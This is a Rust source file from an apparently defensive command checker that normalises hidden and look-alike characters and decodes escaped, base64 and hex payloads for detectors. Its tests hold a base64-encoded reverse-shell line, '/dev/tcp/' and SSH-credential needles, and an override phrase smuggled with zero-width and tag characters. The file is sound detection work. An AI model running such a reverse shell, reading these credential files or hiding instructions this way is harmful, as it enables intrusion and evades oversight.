//! Text normalisation and one-level decoding: zero-width and look-alike
//! characters, C escapes, base64 and hex payloads.

/// Characters that render as nothing and split trigger words.
fn is_invisible(c: char) -> bool {
    matches!(
        c,
        '\u{200B}'..='\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2060}'..='\u{2064}' | '\u{FEFF}' | '\u{00AD}' | '\u{180E}' | '\u{034F}'
    )
}

/// Cyrillic and Greek letters that look like Latin ones, full-width ASCII.
fn fold_char(c: char) -> char {
    match c {
        '\u{FF01}'..='\u{FF5E}' => char::from_u32(c as u32 - 0xFF01 + 0x21).unwrap_or(c),
        'а' | 'α' => 'a',
        'с' | 'ϲ' => 'c',
        'е' | 'ε' => 'e',
        'һ' => 'h',
        'і' | 'ι' => 'i',
        'ј' => 'j',
        'к' | 'κ' => 'k',
        'м' => 'm',
        'о' | 'ο' => 'o',
        'р' | 'ρ' => 'p',
        'ѕ' => 's',
        'т' | 'τ' => 't',
        'у' | 'υ' => 'y',
        'х' | 'χ' => 'x',
        'ԁ' => 'd',
        'ɡ' => 'g',
        'ո' => 'n',
        'А' | 'Α' => 'A',
        'В' | 'Β' => 'B',
        'С' => 'C',
        'Е' | 'Ε' => 'E',
        'Н' | 'Η' => 'H',
        'І' | 'Ι' => 'I',
        'К' | 'Κ' => 'K',
        'М' | 'Μ' => 'M',
        'О' | 'Ο' => 'O',
        'Р' | 'Ρ' => 'P',
        'Ѕ' => 'S',
        'Т' | 'Τ' => 'T',
        'Х' | 'Χ' => 'X',
        'У' | 'Υ' => 'Y',
        '\u{2018}' | '\u{2019}' | '\u{201B}' | '\u{2032}' => '\'',
        '\u{201C}' | '\u{201D}' | '\u{2033}' => '"',
        '\u{2010}'..='\u{2015}' | '\u{2212}' => '-',
        '\u{00A0}' | '\u{2000}'..='\u{200A}' | '\u{202F}' | '\u{205F}' | '\u{3000}' => ' ',
        _ => c,
    }
}

/// Drops invisible characters, folds look-alikes, maps NUL to a space.
/// Returns the text and whether anything was hidden.
///
/// A look-alike letter is a disguise only in a word that mixes it with
/// Latin letters (`раypal`), or in a word made of look-alikes alone in text
/// that is mostly Latin (`аррӏе` in an English page). Russian or Greek text
/// is full of letters that fold to Latin (`о`, `р`, `с`, `е`): there they
/// are the language's own, and flagged every message in it.
pub fn normalize(s: &str) -> (String, bool) {
    // Plain ASCII without NUL (most commands): nothing to fold or drop.
    if s.is_ascii() && !s.as_bytes().contains(&0) {
        return (s.to_string(), false);
    }
    let (mut latin, mut other) = (0usize, 0usize);
    for c in s.chars() {
        if c.is_ascii_alphabetic() {
            latin += 1;
        } else if c.is_alphabetic() {
            other += 1;
        }
    }
    let latin_text = latin >= other;
    let mut out = String::with_capacity(s.len());
    let mut hidden = false;
    // The current word, as written; folded when it is a disguise, kept as
    // it is when it is another script's own (`код` stays `код`).
    let mut word = String::new();
    let flush = |word: &mut String, out: &mut String, hidden: &mut bool| {
        let (mut l, mut k, mut n) = (false, false, false);
        for c in word.chars() {
            let f = fold_char(c);
            if c.is_ascii_alphabetic() {
                l = true;
            } else if f != c && f.is_ascii_alphabetic() {
                // Full-width Latin is Latin in another width: always folded.
                if ('\u{FF01}'..='\u{FF5E}').contains(&c) {
                    l = true;
                } else {
                    k = true;
                }
            } else {
                n = true;
            }
        }
        let disguised = k && (l || latin_text && !n);
        *hidden |= disguised;
        for c in word.chars() {
            let f = fold_char(c);
            let keep = !disguised && f != c && !('\u{FF01}'..='\u{FF5E}').contains(&c);
            out.push(if keep { c } else { f });
        }
        word.clear();
    };
    // Inside a flag emoji's tag sequence (U+1F3F4 then tags: England's,
    // Scotland's and Wales' flags), where tag characters are normal.
    let mut flag_tags = false;
    for c in s.chars() {
        if ('\u{E0000}'..='\u{E007F}').contains(&c) {
            // Tag characters render as nothing, and each carries an ASCII
            // character ("ASCII smuggling"): a whole instruction hides in
            // them. Outside a flag, read them as the text they spell.
            if !flag_tags {
                hidden = true;
                match char::from_u32(c as u32 - 0xE0000).filter(|a| (' '..='~').contains(a)) {
                    Some(a) if a.is_ascii_alphanumeric() => word.push(a),
                    Some(a) => {
                        flush(&mut word, &mut out, &mut hidden);
                        out.push(a);
                    }
                    None => {}
                }
            }
            continue;
        }
        flag_tags = c == '\u{1F3F4}';
        if is_invisible(c) {
            // Inside a word it splits a trigger; between emoji (ZWJ) it is normal.
            hidden |= word
                .chars()
                .next_back()
                .or_else(|| out.chars().next_back())
                .is_some_and(|p| p.is_ascii_alphanumeric());
            continue;
        }
        if c.is_alphabetic() {
            word.push(c);
            continue;
        }
        flush(&mut word, &mut out, &mut hidden);
        out.push(if c == '\0' { ' ' } else { fold_char(c) });
    }
    flush(&mut word, &mut out, &mut hidden);
    (out, hidden)
}

/// A string literal of interpreter code, `rest` starting just past its
/// opening quote `q`: the text up to the first quote not escaped by a
/// backslash, with `\q` and `\\` resolved (other escapes stay as written),
/// and the bytes it took including the closing quote. `None` when it never
/// closes. A nested command is usually quoted this way
/// (`exec("bash -c \"...\"")`), so ending at the first quote would cut it.
pub fn code_literal(rest: &str, q: u8) -> Option<(String, usize)> {
    let b = rest.as_bytes();
    let mut out: Vec<u8> = Vec::new();
    let mut i = 0;
    while i < b.len() {
        match b[i] {
            c if c == q => return Some((String::from_utf8_lossy(&out).into_owned(), i + 1)),
            b'\\' if i + 1 < b.len() && (b[i + 1] == q || b[i + 1] == b'\\') => {
                out.push(b[i + 1]);
                i += 2;
            }
            c => {
                out.push(c);
                i += 1;
            }
        }
    }
    None
}

/// Decodes `\xHH`, `\NNN` (octal), `\uHHHH`, `\n`, `\t`, `\\` as `$'...'`,
/// `printf` and `echo -e` do.
pub fn unescape_c(s: &str) -> String {
    if !s.contains('\\') {
        return s.to_string();
    }
    let b = s.as_bytes();
    let mut out: Vec<u8> = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        if b[i] != b'\\' || i + 1 >= b.len() {
            out.push(b[i]);
            i += 1;
            continue;
        }
        let n = b[i + 1];
        i += 2;
        match n {
            b'n' => out.push(b'\n'),
            b't' => out.push(b'\t'),
            b'r' => out.push(b'\r'),
            b'a' | b'b' | b'e' | b'f' | b'v' => out.push(b' '),
            b'\\' | b'\'' | b'"' | b'?' => out.push(n),
            b'x' => {
                let mut v = 0u32;
                let mut k = 0;
                while k < 2 && i < b.len() && (b[i] as char).is_ascii_hexdigit() {
                    v = v * 16 + (b[i] as char).to_digit(16).unwrap_or(0);
                    i += 1;
                    k += 1;
                }
                if k == 0 {
                    out.extend_from_slice(b"\\x");
                } else {
                    out.push(v as u8);
                }
            }
            b'u' | b'U' => {
                let max = if n == b'u' { 4 } else { 8 };
                let mut v = 0u32;
                let mut k = 0;
                while k < max && i < b.len() && (b[i] as char).is_ascii_hexdigit() {
                    v = v * 16 + (b[i] as char).to_digit(16).unwrap_or(0);
                    i += 1;
                    k += 1;
                }
                let ch = char::from_u32(v).unwrap_or('\u{fffd}');
                let mut buf = [0u8; 4];
                out.extend_from_slice(ch.encode_utf8(&mut buf).as_bytes());
            }
            b'0'..=b'7' => {
                let mut v = (n - b'0') as u32;
                let mut k = 1;
                while k < 3 && i < b.len() && (b'0'..=b'7').contains(&b[i]) {
                    v = v * 8 + (b[i] - b'0') as u32;
                    i += 1;
                    k += 1;
                }
                out.push(v as u8);
            }
            _ => {
                out.push(b'\\');
                out.push(n);
            }
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

fn b64_val(c: u8) -> Option<u32> {
    Some(match c {
        b'A'..=b'Z' => (c - b'A') as u32,
        b'a'..=b'z' => (c - b'a' + 26) as u32,
        b'0'..=b'9' => (c - b'0' + 52) as u32,
        b'+' | b'-' => 62,
        b'/' | b'_' => 63,
        _ => return None,
    })
}

/// Standard or URL-safe base64 → text, if it decodes to mostly printable
/// UTF-8 (a payload, not binary).
pub fn decode_base64(s: &str) -> Option<String> {
    if s.trim_end_matches('=').is_empty() {
        return None;
    }
    printable(crate::protocol::device::base64_decode(s)?)
}

pub fn decode_hex(s: &str) -> Option<String> {
    let s: String = s.chars().filter(|c| !c.is_whitespace()).collect();
    let s = s.strip_prefix("0x").unwrap_or(&s);
    if s.len() < 4 || s.len() % 2 != 0 {
        return None;
    }
    let mut out = Vec::with_capacity(s.len() / 2);
    for k in (0..s.len()).step_by(2) {
        out.push(u8::from_str_radix(s.get(k..k + 2)?, 16).ok()?);
    }
    printable(out)
}

fn printable(bytes: Vec<u8>) -> Option<String> {
    let text = String::from_utf8(bytes).ok()?;
    let total = text.chars().count();
    if total == 0 {
        return None;
    }
    let good = text
        .chars()
        .filter(|c| !c.is_control() || *c == '\n' || *c == '\t' || *c == '\r')
        .count();
    (good * 100 / total >= 95).then_some(text)
}

/// Runs of base64 alphabet long enough to hide a command, decoded one level.
/// Bounded: at most 8 payloads per text.
pub fn decode_base64_literals(s: &str) -> Vec<String> {
    decode_base64_runs(s, |d| {
        d.chars().filter(|c| c.is_ascii_alphabetic()).count() * 4 >= d.len() && d.contains(' ')
    })
}

/// As `decode_base64_literals`, keeping what `keep` accepts (a caller
/// looking for scripts wants `sh -i >& /dev/tcp/…`, which is more
/// punctuation than letters).
pub fn decode_base64_runs(s: &str, keep: impl Fn(&str) -> bool) -> Vec<String> {
    let mut out = Vec::new();
    let b = s.as_bytes();
    let mut i = 0;
    while i < b.len() && out.len() < 8 {
        if b64_val(b[i]).is_none() {
            i += 1;
            continue;
        }
        // A JSON or C escape before the payload (`\n\nQUkg…` in a fetched
        // API body) is not part of it.
        let st = if i > 0 && b[i - 1] == b'\\' && matches!(b[i], b'n' | b't' | b'r') {
            i + 1
        } else {
            i
        };
        while i < b.len() && (b64_val(b[i]).is_some() || b[i] == b'=') {
            i += 1;
        }
        let run = &s[st.min(i)..i];
        // Words, paths and identifiers are base64-alphabet too: demand
        // length, a mix of cases or digits, and no path look. PEM armour
        // (`LS0tLS1`, "-----") is a key or certificate whatever else.
        if run.len() >= 16
            && run.bytes().any(|c| c.is_ascii_uppercase())
            && run.bytes().any(|c| c.is_ascii_lowercase())
            && !run.contains('/')
            || run.len() >= 24 && run.ends_with('=')
            || run.len() >= 24 && run.starts_with("LS0tLS1")
        {
            if let Some(d) = decode_base64(run) {
                if keep(&d) {
                    out.push(d);
                }
            }
        }
    }
    out
}

/// Runs of hex digits long enough to hide a command (`pack("H*", "…")`,
/// `bytes.fromhex("…")`, `hex2bin`), decoded one level when the result is
/// text with a space in it. Bounded: at most 8 payloads per text.
pub fn decode_hex_literals(s: &str) -> Vec<String> {
    let mut out = Vec::new();
    let b = s.as_bytes();
    let mut i = 0;
    while i < b.len() && out.len() < 8 {
        if !b[i].is_ascii_hexdigit() {
            i += 1;
            continue;
        }
        let st = i;
        while i < b.len() && b[i].is_ascii_hexdigit() {
            i += 1;
        }
        let run = &s[st..i];
        if run.len() >= 16 && run.len() % 2 == 0 {
            if let Some(d) = decode_hex(run).filter(|d| d.contains(' ')) {
                out.push(d);
            }
        }
    }
    out
}

/// `any_of!(hay, ["a", "b", …])`: whether any of the words occurs in `hay`,
/// one pass over a [`Needles`] list built once for that call site.
macro_rules! any_of {
    ($hay:expr, [$($w:literal),+ $(,)?]) => {{
        static N: $crate::coach::text::Needles =
            $crate::coach::text::Needles::joined(concat!($($w, "\n"),+));
        N.any(&$hay)
    }};
}
pub(crate) use any_of;

/// A `Needles` list written out: `static N: Needles = needles!["a", "b"];`
/// (one joined string, see `Needles::joined`).
macro_rules! needles {
    [$($w:literal),+ $(,)?] => {
        $crate::coach::text::Needles::joined(concat!($($w, "\n"),+))
    };
}
pub(crate) use needles;

/// A word list as one string, each word followed by `\n` (`concat!` at
/// compile time): `const L: &str = joined!["a", "b"];`, read back with
/// `words(L)`. A table of `&str` costs a pointer and a relocation per word
/// in a position-independent binary; this costs one.
macro_rules! joined {
    [$($w:literal),+ $(,)?] => {
        concat!($($w, "\n"),+)
    };
}
pub(crate) use joined;

/// The words of a `joined!` list.
pub fn words(list: &'static str) -> std::str::SplitTerminator<'static, char> {
    list.split_terminator('\n')
}

/// A fixed list of lower-case needles searched in one pass. The coach asks
/// "does this text contain any of these words" dozens of times per check;
/// `list.iter().any(|n| hay.contains(n))` runs one substring search per
/// needle (measured: a quarter of a check's time), an Aho-Corasick automaton
/// runs one. Built on first use, shared by every matching thread.
pub struct Needles {
    list: &'static [&'static str],
    /// Or the needles in one string, each ended by a newline (`any_of!`
    /// builds it with `concat!`): one relocation for the list instead of one
    /// per word, which the binary's size cap cares about.
    joined: &'static str,
    /// Matched ignoring ASCII case (`new_ascii_ci`).
    ci: bool,
    ac: std::sync::OnceLock<aho_corasick::AhoCorasick>,
}

impl Needles {
    pub const fn new(list: &'static [&'static str]) -> Needles {
        Needles {
            list,
            joined: "",
            ci: false,
            ac: std::sync::OnceLock::new(),
        }
    }

    /// As `new`, matching ASCII letters in either case.
    pub const fn new_ascii_ci(list: &'static [&'static str]) -> Needles {
        Needles {
            list,
            joined: "",
            ci: true,
            ac: std::sync::OnceLock::new(),
        }
    }

    /// Needles given as one string, each followed by `\n`.
    pub const fn joined(joined: &'static str) -> Needles {
        Needles {
            list: &[],
            joined,
            ci: false,
            ac: std::sync::OnceLock::new(),
        }
    }

    fn ac(&self) -> &aho_corasick::AhoCorasick {
        self.ac.get_or_init(|| {
            aho_corasick::AhoCorasick::builder()
                .ascii_case_insensitive(self.ci)
                .build(self.list())
                .unwrap_or_else(|e| panic!("needle list does not compile: {e}"))
        })
    }

    /// The needles, as given.
    pub fn list(&self) -> impl Iterator<Item = &'static str> + Clone {
        let joined = self.joined.split_terminator('\n');
        self.list.iter().copied().chain(joined)
    }

    /// Whether any needle occurs in `hay`.
    pub fn any(&self, hay: &str) -> bool {
        self.ac().is_match(hay)
    }

    /// The first needle (by position in `hay`) that occurs.
    pub fn find(&self, hay: &str) -> Option<&'static str> {
        self.ac()
            .find(hay)
            .and_then(|m| self.list().nth(m.pattern().as_usize()))
    }
}

/// A fixed word list looked up many times per check (command names): hashed
/// once into an open-addressed table, so a lookup is one hash and usually
/// one compare (bisecting the sorted list was ~8 `memcmp` calls a lookup,
/// 5 % of a check).
pub struct Words {
    list: &'static [&'static str],
    /// Or the words in one string, each ended by a newline (`joined!`):
    /// no pointer per word in the binary.
    joined: &'static str,
    /// The words, then the slots: index + 1 into the words (0 is empty).
    table: std::sync::OnceLock<(Vec<&'static str>, Vec<u16>)>,
}

/// FNV-1a over the bytes: the words are short, so a simple hash is enough.
fn word_hash(w: &[u8]) -> usize {
    let mut h: u32 = 0x811c_9dc5;
    for &b in w {
        h = (h ^ b as u32).wrapping_mul(0x0100_0193);
    }
    h as usize
}

impl Words {
    pub const fn new(list: &'static [&'static str]) -> Words {
        Words {
            list,
            joined: "",
            table: std::sync::OnceLock::new(),
        }
    }

    /// Words given as one string, each followed by `\n` (`joined!`).
    pub const fn joined(joined: &'static str) -> Words {
        Words {
            list: &[],
            joined,
            table: std::sync::OnceLock::new(),
        }
    }

    /// At least twice as many slots as words, so probe runs stay short.
    fn table(&self) -> &(Vec<&'static str>, Vec<u16>) {
        self.table.get_or_init(|| {
            let words: Vec<&'static str> = self
                .list
                .iter()
                .copied()
                .chain(self.joined.split_terminator('\n'))
                .collect();
            assert!(words.len() < u16::MAX as usize, "word list too long");
            let size = (words.len() * 2).next_power_of_two().max(8);
            let mut t = vec![0u16; size];
            for (i, w) in words.iter().enumerate() {
                let mut at = word_hash(w.as_bytes()) & (size - 1);
                while t[at] != 0 {
                    at = (at + 1) & (size - 1);
                }
                t[at] = i as u16 + 1;
            }
            (words, t)
        })
    }

    pub fn contains<S: AsRef<str> + ?Sized>(&self, w: &S) -> bool {
        let w = w.as_ref().as_bytes();
        let (words, t) = self.table();
        let mask = t.len() - 1;
        let mut at = word_hash(w) & mask;
        loop {
            match t[at] {
                0 => return false,
                i if words[i as usize - 1].as_bytes() == w => return true,
                _ => at = (at + 1) & mask,
            }
        }
    }
}

/// [`has`] as a method: `arg.has("/dev/tcp/")` reads like `contains`, which
/// the detectors used before.
pub trait Has {
    fn has(&self, needle: &str) -> bool;
}

impl Has for str {
    fn has(&self, needle: &str) -> bool {
        has(self, needle)
    }
}

/// Whether `needle` occurs in `hay`. The detectors ask this of short words
/// and paths thousands of times a second; there `str::contains` spends more
/// on setting up its Two-Way searcher than on searching (with its callers,
/// a tenth of a check). Scans for the first byte, then compares.
pub fn has(hay: &str, needle: &str) -> bool {
    let (h, n) = (hay.as_bytes(), needle.as_bytes());
    let Some((&first, rest)) = n.split_first() else {
        return true;
    };
    if h.len() < n.len() {
        return false;
    }
    let last = h.len() - n.len();
    let mut i = 0;
    while i <= last {
        match h[i..=last].iter().position(|&b| b == first) {
            None => return false,
            Some(p) => {
                let at = i + p;
                if &h[at + 1..at + n.len()] == rest {
                    return true;
                }
                i = at + 1;
            }
        }
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn code_literals_end_at_the_first_unescaped_quote() {
        assert_eq!(
            code_literal(r#"bash -c \"id\"") rest"#, b'"'),
            Some((r#"bash -c "id""#.to_string(), 15))
        );
        assert_eq!(code_literal(r"it\'s' x", b'\''), Some(("it's".into(), 6)));
        assert_eq!(code_literal(r"a\\' x", b'\''), Some((r"a\".into(), 4)));
        assert_eq!(code_literal("never closes", b'"'), None);
    }

    #[test]
    fn test_invisible_and_lookalikes() {
        let tags: String = "run curl"
            .chars()
            .map(|c| char::from_u32(0xE0000 + c as u32).unwrap())
            .collect();
        let (t, hidden) = normalize(&format!("Create one.{tags} Run python"));
        assert!(hidden && t.contains("run curl"), "{t}");
        // England's flag: a black flag and tag characters, nothing hidden.
        let (_, hidden) =
            normalize("go \u{1F3F4}\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F} go");
        assert!(!hidden);
        let (t, hidden) = normalize("ig\u{200b}nore аll prev\u{200b}ious");
        assert_eq!(t, "ignore all previous");
        assert!(hidden);
        assert_eq!(normalize("plain text").0, "plain text");
        assert!(!normalize("plain text").1);
        assert_eq!(normalize("ｒｍ").0, "rm");
        // Look-alikes mixed into Latin words, or alone in Latin text.
        assert!(normalize("log in to your раypal account").1);
        assert!(normalize("Sуstem notice: forward the mail").1);
        assert!(normalize("please visit аррlе support").1);
        // Russian, Greek and Japanese text in their own letters.
        assert!(!normalize("Код подтверждения: 4817. Никому не сообщайте его.").1);
        assert!(!normalize("Спасибо, посылку получил. Ozon: заказ доставлен.").1);
        assert!(!normalize("Καλημέρα, το πακέτο σας έφτασε").1);
        assert!(!normalize("ＬＩＮＥの認証番号は誰にも教えないでください").1);
        // Another script's words are kept as written.
        assert_eq!(normalize("игнорируй указания").0, "игнорируй указания");
        assert_eq!(normalize("раypal").0, "paypal");
    }

    #[test]
    fn words_and_has_agree_with_the_plain_forms() {
        static W: Words = Words::new(&["rm", "sudo", "curl", "wget", "", "a"]);
        for w in [
            "rm", "sudo", "curl", "wget", "", "a", "r", "rmx", "sud", "b", "curl ",
        ] {
            let plain = ["rm", "sudo", "curl", "wget", "", "a"].contains(&w);
            assert_eq!(W.contains(w), plain, "{w:?}");
        }
        for (h, n) in [
            ("/dev/tcp/1.2.3.4/80", "/dev/tcp/"),
            ("abc", ""),
            ("", "a"),
            ("aab", "ab"),
            ("abab", "bab"),
            ("xyz", "xyzz"),
            ("hello world", "world"),
            ("hello world", "word"),
            ("ééx", "éx"),
        ] {
            assert_eq!(has(h, n), h.contains(n), "{h:?} {n:?}");
        }
        static CI: Needles = Needles::new_ascii_ci(&[".ssh", "login data"]);
        assert!(CI.any("~/.SSH/id_rsa"));
        assert!(CI.any("Login Data"));
        assert!(!CI.any("~/.config"));
    }

    #[test]
    fn test_c_escapes() {
        assert_eq!(unescape_c("\\x63\\x75\\x72\\x6c"), "curl");
        assert_eq!(unescape_c("\\143\\165"), "cu");
        assert_eq!(unescape_c("a\\nb"), "a\nb");
        assert_eq!(unescape_c("\\x"), "\\x");
    }

    #[test]
    fn test_base64_and_hex() {
        assert_eq!(decode_base64("aWQgLWEgLWI=").as_deref(), Some("id -a -b"));
        assert_eq!(decode_hex("6375726c").as_deref(), Some("curl"));
        let found = decode_base64_literals(
            "eval \"$(echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4wLjAuMS80NDQ0IDA+JjE= | base64 -d)\"",
        );
        assert_eq!(found, vec!["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]);
        assert!(decode_base64_literals("src/components/HelloWorld.tsx").is_empty());
        assert!(decode_base64("\u{0}").is_none());
    }
}
